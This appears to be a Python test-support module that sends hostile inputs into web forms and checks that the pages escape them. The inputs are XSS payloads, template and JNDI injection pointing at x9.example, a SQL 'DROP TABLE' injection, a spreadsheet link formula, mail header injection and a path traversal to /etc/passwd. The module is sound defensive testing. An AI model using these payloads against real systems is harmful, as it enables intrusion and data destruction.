"""Texts that somebody may send on purpose, and forms as whoever sends them sees them: any field may hold anything."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from urllib.parse import urlencode

from lxml import html

from tests.support import papers

MARK = "x9"
"""An element and a call that no page of ours has."""
TEXTS: Mapping[str, str] = {
    **papers.HOSTILE,
    "element": f"</textarea></select></title></script>\"'><{MARK} onclick={MARK}()>",
    "attribute": f'" onfocus="{MARK}()" x=\'',
    "single quotes": f"' onfocus='{MARK}()' x=\"",
    "script": f"<script>{MARK}()</script><img src=x onerror={MARK}()>",
    "template": "{{ 7 * 7 }}{% for a in b %}{# c #}${jndi:ldap://x9.example}",
    "sql": "'; DROP TABLE enrolments; --",
    "sheet": '=HYPERLINK("http://x9.example","klik")',
    "header": "a\r\nBcc: x@y.example\r\n\r\n.\r\nQUIT",
    "path": "../../../etc/passwd%00",
    "address": f"javascript:{MARK}()",
    "number": "9" * 400,
    "not a number": "NaN",
    "negative": "-1",
    "exponent": "1e999999",
    "day": "31/02/20210",
    "digits": "\u0661\u0662\u0663\uff11\u00b2",
    "blank": " \u3000\u2028\u200b",
    "nothing": "",
    "half a pair": "a\ud83db",
    "json": '{"a": [1, null]}',
}


@dataclass(frozen=True)
class Seen:
    """A form on a page: where it goes, and what is in it before somebody types."""

    action: str
    fields: Mapping[str, str]

    def body(self, changes: Mapping[str, str]) -> bytes:
        """As a browser sends it; what is no text at all goes as the bytes that it would be."""
        return urlencode({**self.fields, **changes}, errors="surrogatepass").encode()


def form_of(page: str, path: str) -> Seen:
    form = html.fromstring(page).forms[0]
    typed = dict(form.form_values())
    return Seen(form.get("action") or path, {name: str(typed.get(name, "")) for name in form.fields})


def must_be_escaped(page: str) -> None:
    """Nothing that was typed is a part of the page itself."""
    if not page:
        return
    for element in html.fromstring(page).iter():
        if isinstance(element.tag, str):
            assert element.tag != MARK
            odd = [name for name in element.attrib if name.startswith("on") or MARK in name]
            assert not odd, html.tostring(element)
            assert element.tag != "script" or MARK not in (element.text or "")
            assert not str(element.get("href", "")).startswith("javascript:")
